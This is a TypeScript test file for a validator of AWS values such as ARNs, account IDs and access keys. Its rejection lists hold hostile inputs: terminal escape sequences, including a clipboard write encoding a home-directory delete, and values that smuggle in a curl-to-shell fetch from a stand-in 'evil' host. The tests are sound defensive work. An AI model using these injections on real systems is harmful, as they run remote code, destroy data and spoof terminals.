/**
 * The patterns values from AWS must match before they are shown or stored (core/aws-values.ts):
 * every form AWS really sends passes, and nothing with a control character, a line break, a
 * direction override or a space does.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isAwsValue, badAwsField, type AwsValueKind } from '../../src/core/aws-values.js';

// an OSC 52 clipboard write, a line erase, a title change, a direction override, line breaks, a space, a C1 CSI
const ATTACKS = ['\x1b]52;c;cm0gLXJmIH4K\x07', '\x1b[2K', '\x1b]0;owned\x07', '\u202e'];
ATTACKS.push('\n', '\r', ' ', '\x9b2J', '\u2028');

const GOOD: Record<AwsValueKind, string[]> = {
  serial: [
    'arn:aws:iam::123456789012:mfa/alice',
    'GAHT12345678',
    'arn:aws:iam::123456789012:u2f/user/alice/fidosecuritykey-ABCDEFGHIJKLMNOPQRSTUVWXYZ',
    'arn:aws-cn:iam::123456789012:mfa/path/to/a.b@c',
  ],
  virtualDevice: [
    'arn:aws:iam::123456789012:mfa/alice',
    'arn:aws-us-gov:iam::123456789012:mfa/team/alice+work=1,2.x@y-z',
    'arn:aws-cn:iam::123456789012:mfa/a',
  ],
  seed: [
    'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP',
    'JBSWY3DPEHPK3PXP',
    'JBSWY3DPEHPK3PXPMY======',
  ],
  callerArn: [
    'arn:aws:iam::123456789012:user/alice',
    'arn:aws:iam::123456789012:user/division_abc/subdivision_xyz/alice',
    'arn:aws:sts::123456789012:assumed-role/Admin/alice@example.com',
    'arn:aws:iam::123456789012:root',
    'arn:aws-cn:sts::123456789012:federated-user/bob',
  ],
  account: ['123456789012', '000000000000'],
  userId: ['AIDAJQABLZS4A3QDU576Q', 'AROA3XFRBF535PLBIFPI4:alice@example.com', '123456789012'],
  userName: ['alice', 'a.b+c=d,e@f_g-h', 'x'.repeat(64)],
  accessKeyId: ['AKIAIOSFODNN7EXAMPLE', 'ASIA' + 'X'.repeat(124), 'AKIA_0123456789AB'],
};

const BAD: Record<AwsValueKind, string[]> = {
  serial: ['', 'GAHT1234', 'x'.repeat(257), 'arn:aws:iam::123456789012:mfa/alice bob'],
  virtualDevice: [
    'GAHT12345678',
    'arn:aws:iam::123456789012:u2f/user/alice/key',
    'arn:aws:iam::12345678901:mfa/alice',
    'arn:aws:iam::123456789012:mfa/',
    'arn:evil:iam::123456789012:mfa/alice',
  ],
  seed: ['', 'jbswy3dpehpk3pxp', 'JBSWY3DPEHPK3PX1', 'JBSWY3DP', 'JBSWY3DPEHPK3PXP=======', 'A'.repeat(129)],
  callerArn: [
    '',
    'arn:aws:ec2::123456789012:instance/i-1',
    'arn:aws:iam::1234:user/alice',
    'arn:aws:iam::123456789012:',
  ],
  account: ['', '12345678901', '1234567890123', '12345678901a'],
  userId: ['', 'AIDA/x', 'x'.repeat(257)],
  userName: ['', 'a/b', 'x'.repeat(65), 'alice;curl${IFS}x|sh;#'],
  accessKeyId: ['', 'AKIA12345678901', 'AKIAX;curl${IFS}-s${IFS}evil|sh;#', 'AKIA-IOSFODNN7EXAMPLE', 'A'.repeat(129)],
};

test('every form AWS sends passes; the rest, and every attack, does not', () => {
  for (const kind of Object.keys(GOOD) as AwsValueKind[]) {
    for (const v of GOOD[kind]) assert.equal(isAwsValue(kind, v), true, `${kind}: ${v}`);
    for (const v of BAD[kind]) assert.equal(isAwsValue(kind, v), false, `${kind}: ${JSON.stringify(v)}`);
    for (const good of GOOD[kind]) {
      for (const a of ATTACKS) {
        for (const v of [good + a, a + good, good.slice(0, 4) + a + good.slice(4)]) {
          assert.equal(isAwsValue(kind, v), false, `${kind}: ${JSON.stringify(v)}`);
        }
      }
    }
  }
  assert.equal(isAwsValue('serial', undefined), false);
  assert.equal(isAwsValue('serial', 123456789012), false);
});

test('badAwsField names the first field that is not what AWS sends, never its value', () => {
  const arn = GOOD.callerArn[0]!;
  assert.equal(badAwsField([['Arn', 'callerArn', arn], ['Account', 'account', '123456789012']]), undefined);
  const forged = `${arn}\nMFA: yes`;
  const badAccount = ['Account', 'account', 'x'] as const;
  assert.deepEqual(badAwsField([['Arn', 'callerArn', forged], badAccount]), { field: 'Arn', kind: 'callerArn' });
  assert.deepEqual(badAwsField([['Arn', 'callerArn', arn], badAccount]), { field: 'Account', kind: 'account' });
});
